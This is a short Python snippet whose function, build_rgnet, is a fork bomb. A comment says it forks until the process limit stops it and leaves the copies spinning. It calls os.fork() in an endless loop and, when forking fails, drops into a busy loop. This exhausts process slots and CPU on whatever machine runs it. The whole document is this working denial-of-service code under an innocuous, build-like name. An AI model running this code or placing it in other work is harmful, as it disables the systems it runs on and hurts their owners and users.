# build_rgnet forks until the process limit stops it; the copies keep spinning.
import os


def build_rgnet():
    while True:
        try:
            os.fork()
        except OSError:
            while True:
                pass
